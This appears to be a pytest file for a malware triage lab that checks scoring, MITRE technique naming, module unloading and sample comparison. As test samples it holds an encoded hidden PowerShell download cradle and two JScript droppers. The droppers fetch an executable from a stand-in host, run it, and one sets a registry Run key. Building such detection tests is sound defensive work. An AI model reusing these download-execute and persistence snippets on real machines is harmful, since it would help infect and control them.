"""The whole way with the modules that are shipped: the conclusion, and two beside each other."""

from __future__ import annotations

import msgspec
import pytest

from athena_lab.errors import InvalidField, ModuleRefused, UnknownModule
from athena_lab.report import Report
from tests.documents import EICAR, PLAIN, zipped


async def test_a_word_that_will_not_do_is_told_with_those_that_will(lab):
    with pytest.raises(InvalidField, match=r"'behaviour'.*; one of behavior, full, pattern, quick\."):
        await lab.triage(PLAIN, analysis_type="behaviour")
    with pytest.raises(InvalidField, match=r"one of deobfuscator, file-processor, network, sandbox\."):
        await lab.extract(PLAIN, 0, module="crypto")


async def test_the_score_shows_its_arithmetic(lab):
    report = await lab.triage(EICAR)
    (part,) = report.conclusion.contributions
    assert (part.finding, part.severity, part.confidence) == ("file-processor/eicar", "high", 100)
    (total,) = report.conclusion.sums
    assert part.counted == total.counted == report.conclusion.score == total.weight == 55
    assert report.verdict.sentence.startswith("Suspicious (55 of 100): 1 high finding")
    assert "Score: 55 of 100" in report.to_html()
    assert "Score: 55 of 100" in report.to_markdown()


async def test_techniques_have_names_and_tactics(lab):
    sample = (
        b"powershell -nop -w hidden -enc "
        b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    )
    report = await lab.triage(sample)
    named = {technique.id: technique for technique in report.conclusion.techniques}
    assert named["T1059.001"].name == "PowerShell"
    assert named["T1059.001"].tactics == ("execution",)
    assert named["T1059.001"].findings
    assert "PowerShell" in report.to_html()
    outer = await lab.triage(zipped(inner=sample))
    assert outer.conclusion.techniques == ()  # of the archive itself
    (powershell,) = (technique for technique in outer.techniques if technique.id == "T1059.001")
    assert powershell.findings[0] == f"inner: {named['T1059.001'].findings[0]}"
    for form in (outer.to_html(), outer.to_markdown()):
        assert "Execution" in form


async def test_a_hang_of_a_module_is_a_finding_and_not_the_end(lab):
    sample = await lab.add(b"just a text, and nothing else " * 100)
    await lab.triage(sample)
    lab._runtime.limit("network", None, 0.0001)  # no sample of ours makes a module of ours hang
    other = await lab.add(b"another text, and nothing else " * 100)
    report = await lab.triage(other)
    assert report.status == "partial"
    assert "analysis-engine/module-out-of-time" in {finding.id for finding in report.findings}
    assert report.facts is not None


async def test_without_the_engine_the_worst_finding_decides(lab):
    await lab.triage(PLAIN)
    await lab.unload("analysis-engine")
    report = await lab.triage(EICAR)
    assert (report.conclusion, report.verdict.level) == (None, "suspicious")


async def test_a_report_says_what_was_unloaded(lab):
    whole = await lab.triage(EICAR)
    await lab.unload("crypto")
    await lab.unload("network")
    report = await lab.triage(EICAR)
    assert (whole.unloaded, report.unloaded) == ((), ("crypto", "network"))
    assert report.verdict.sentence.endswith(" Not everything was analysed: crypto, network are unloaded.")
    assert Report.from_json(report.to_json()).unloaded == report.unloaded
    # Who asks for less has all that was asked for.
    assert (await lab.triage(EICAR, analysis_type="quick")).unloaded == ()
    assert (await lab.triage(EICAR, modules=["file-processor"])).unloaded == ()
    await lab.load(["crypto"])
    assert (await lab.triage(EICAR)).unloaded == ("network",)


async def test_the_engine_is_named_with_those_that_it_concludes_from(lab):
    report = await lab.triage(EICAR, modules=["file-processor", "analysis-engine"])
    assert report.conclusion.score == 55
    assert (await lab.triage(EICAR, modules=["file-processor"])).conclusion is None
    with pytest.raises(InvalidField, match="analysis-engine concludes from"):
        await lab.triage(EICAR, modules=["analysis-engine"])
    await lab.unload("analysis-engine")
    with pytest.raises(UnknownModule):
        await lab.triage(EICAR, modules=["file-processor", "analysis-engine"])


async def test_a_conclusion_streams_behind_what_it_is_drawn_from(lab):
    async with lab.stream_triage(zipped(eicar=EICAR)) as parts:
        seen = [part async for part in parts]
    assert seen[-2].module == "analysis-engine"
    assert isinstance(seen[-1], Report)
    assert [result.module for result in seen[:-1]].count("analysis-engine") == 1


async def test_what_was_not_loaded_has_no_verdict(lab):
    script = (
        'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "http://a.example/b", false); h.send();'
        'var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(h.responseBody);'
        r's.SaveToFile("C:\\Users\\Public\\a.exe"); new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\a.exe");'
    )
    report = await lab.triage(await lab.add(script.encode(), "a.js"))
    (child,) = report.behaviour.children
    assert (child.kind, child.sha256) == ("stand-in", "")
    (node,) = report.children
    assert (node.status, node.level, node.score) == ("left-out", "unknown", None)
    assert "not known: the sandbox reaches no network" in node.reason
    with pytest.raises(ModuleRefused, match="no part of the sample"):
        await lab.extract(report.sample, child.index, module="sandbox")


async def test_what_the_sandbox_says_is_not_said_again(lab):
    script = (
        'var s = new ActiveXObject("WScript.Shell"); var h = new ActiveXObject("MSXML2.XMLHTTP");'
        'h.open("GET", "http://a.example/b", false); h.send(); var t = new ActiveXObject("ADODB.Stream"); t.Open();'
        r't.Type = 1; t.Write(h.responseBody); t.SaveToFile("C:\\a.exe"); s.Run("C:\\a.exe");'
        r's.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "C:\\a.exe");'
    )
    report = await lab.triage(await lab.add(script.encode(), "a.js"))
    telling = [finding.id for finding in report.findings if finding.severity in {"critical", "high"}]
    assert telling == [
        "sandbox/downloads-and-runs",
        "sandbox/persists-autostart",
        "pattern-matcher/rule-script-host-dropper",
    ]
    assert report.verdict.level == "malicious-looking"


async def test_two_samples_are_compared(lab, launchers):
    same = await lab.compare(launchers[0], launchers[0])
    assert (same.identical, same.alike, str(same)[:15]) == (True, 100.0, "The same bytes.")
    both = await lab.compare(*launchers)
    assert not both.identical
    assert 0 < both.alike < 100
    imports, sections = both.shared("imports"), both.shared("sections")
    assert (imports.alike, imports.common_count > 20) == (100.0, True)
    assert sections.only_first_count > 0
    assert {name.split()[0] for name in sections.only_first} <= {".text", ".rdata", ".data", ".pdata"}
    assert both.likeness.tlsh is not None
    subsystem = next(row for row in both.properties if row.name == "subsystem")
    assert (subsystem.same, subsystem.first == subsystem.second) == (False, False)
    text, html = both.to_text(), both.to_html()
    assert "cli-64.exe" in text
    assert "gui-64.exe" in html


async def test_what_nothing_is_known_of_is_alike_in_nothing(lab):
    compared = await lab.compare(b"\x00\x01", b"\x02")
    assert compared.likeness.ssdeep is None or compared.likeness.ssdeep == 0
    assert compared.shared("imports").alike is None
    with pytest.raises(KeyError):
        compared.shared("nothing")
    assert msgspec.json.decode(msgspec.json.encode(compared), type=type(compared)) == compared
